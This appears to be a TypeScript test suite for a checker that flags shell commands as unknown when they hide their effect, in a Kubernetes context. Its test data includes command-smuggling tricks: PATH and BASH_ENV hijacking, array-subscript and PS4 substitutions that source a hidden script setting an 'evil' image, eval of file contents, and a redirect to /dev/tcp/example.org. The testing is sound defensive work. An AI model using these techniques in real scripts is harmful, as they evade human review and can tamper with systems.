import { requirementOf } from '../requirementOf';
import { judgeText } from './testUtils/judgeText';

const FILES: Record<string, string> = {
  'a4/quiet.sh': 'kubectl set image deployment/web "*=evil:1" >&2\n',
  'a4/mixed.sh':
    'for PATH in a4/bin; do kubectl annotate deployment web a=b; done\n',
};

function judge(text: string) {
  return judgeText(text, FILES, {
    inventory: { id: 'local', hasTool: () => true, hasNetwork: false },
    scope: {
      source: { kind: 'configuration', rule: 'shop' },
      namespaces: ['shop', 'other'],
      reads: 'cluster',
      grants: [],
    },
  });
}

const ANNOTATES = 'kubectl annotate deployment web note=ok --overwrite';

/** Each makes a command another one, or runs what nobody sees; beside `CHANGE` stands an ordinary change. */
const HIDES = [
  'for PATH in a4/bin; do CHANGE; done',
  'select PATH in a4/bin; do CHANGE; done',
  'env PATH=a4/bin:$PATH CHANGE',
  'env -i PATH=a4/bin CHANGE',
  'PATH=a4/bin CHANGE',
  'command env PATH=a4/bin CHANGE',
  'nice env PATH=a4/bin CHANGE',
  'PATH=a4/bin; CHANGE',
  'export PATH=a4/bin; CHANGE',
  'declare PATH=a4/bin; CHANGE',
  'CHANGE; env BASH_ENV=f bash -c "echo a"',
  "env BASH_ENV=f bash -c 'CHANGE'",
  "N='a[$(. a4/quiet.sh)]'; (( N )); CHANGE",
  "N='a[$(. a4/quiet.sh)]'; [[ $N -eq 1 ]]; CHANGE",
  "N='a[$(. a4/quiet.sh)]'; [[ N -eq 1 ]]; CHANGE",
  'N=\'a[$(. a4/quiet.sh)]\'; test -v "$N"; CHANGE',
  'N=\'a[$(. a4/quiet.sh)]\'; printf -v "$N" x; CHANGE',
  'N=\'a[$(. a4/quiet.sh)]\'; read "$N" <<< x; CHANGE',
  'N=\'a[$(. a4/quiet.sh)]\'; unset "$N"; CHANGE',
  "N='a[$(. a4/quiet.sh)]'; echo ${!N}; CHANGE",
  'N=\'$(. a4/quiet.sh)\'; echo "${N@P}"; CHANGE',
  "PS4='$(. a4/quiet.sh)'; set -x; CHANGE",
  'read PATH <<< a4/bin; CHANGE',
  'printf -v PATH %s a4/bin; CHANGE',
  'unset PATH; CHANGE',
  'fnord-unknown-tool && CHANGE',
  'CHANGE; fnord-unknown-tool',
  'CHANGE; "$(cat f)"',
  'eval "$(cat f)"; CHANGE',
  'CHANGE; bash missing.sh',
  "bash -c 'fnord-unknown-tool; CHANGE'",
  'f() { fnord-unknown-tool; CHANGE; }; f',
  '(fnord-unknown-tool); CHANGE',
  'CHANGE | fnord-unknown-tool',
  'CHANGE > /dev/tcp/example.org/80',
];

/** What cannot be read as shell, whole or in part. */
const UNREADABLE = [
  `${ANNOTATES}\n)`,
  `${ANNOTATES}; echo \${a`,
  `${ANNOTATES}; echo \${N/$(. a4/quiet.sh)/}`,
];

describe('what cannot be told beside what can', () => {
  it.each(
    HIDES.flatMap(text =>
      [
        ANNOTATES,
        'kubectl rollout restart deployment/web',
        'kubectl delete configmap v-old',
      ].map(change => text.replace('CHANGE', change)),
    ),
  )('is asked for as what may do anything: %s', text => {
    const judged = judge(text);
    expect(judged.unknown).toBeDefined();
    expect(judged.because.startsWith(judged.unknown!)).toBe(true);
    expect(judged.writes).toEqual({
      kind: 'any-in-namespaces',
      namespaces: ['other', 'shop'],
      destructive: true,
      executes: 'any',
    });
    const requires = requirementOf(judged, { approvedBy: [], typed: 'web' });
    expect(requires).toMatchObject({
      kind: 'approval-and-confirmation',
      because: expect.stringContaining(judged.unknown!),
    });
  });

  it.each(UNREADABLE)('is a text that cannot be read: %s', text => {
    const judged = judge(text);
    expect(judged.unknown).toBeDefined();
    expect(
      requirementOf(judged, { approvedBy: [], typed: 'web' }),
    ).toMatchObject({
      kind: 'approval-and-confirmation',
      because: expect.stringContaining(judged.unknown!),
    });
  });

  it('is named before what is known, also where that destroys', () => {
    const { effect, because } = judge(
      'for PATH in a4/bin; do kubectl delete configmap v-old; done',
    );
    expect(effect).toBe('destructive');
    expect(because).toMatch(
      /^sets PATH, which changes what later commands do; deletes configmap v-old/,
    );
  });

  it('is found in a script, which is named with it', () => {
    const { effect, unknown } = judge(`bash a4/mixed.sh; ${ANNOTATES}`);
    expect(effect).toBe('change');
    expect(unknown).toBe(
      'runs a4/mixed.sh: sets PATH, which changes what later commands do',
    );
  });

  it.each([
    ANNOTATES,
    `for name in a b; do ${ANNOTATES}; done`,
    `N=3; (( N )); ${ANNOTATES}`,
    `echo begin; ${ANNOTATES}; echo end`,
    `kubectl exec deploy/web -- some-tool; ${ANNOTATES}`,
  ])('is nothing in an ordinary change: %s', text => {
    const judged = judge(text);
    expect(judged.unknown).toBeUndefined();
    expect(requirementOf(judged, { approvedBy: [], typed: 'web' }).kind).toBe(
      'approval',
    );
  });
});
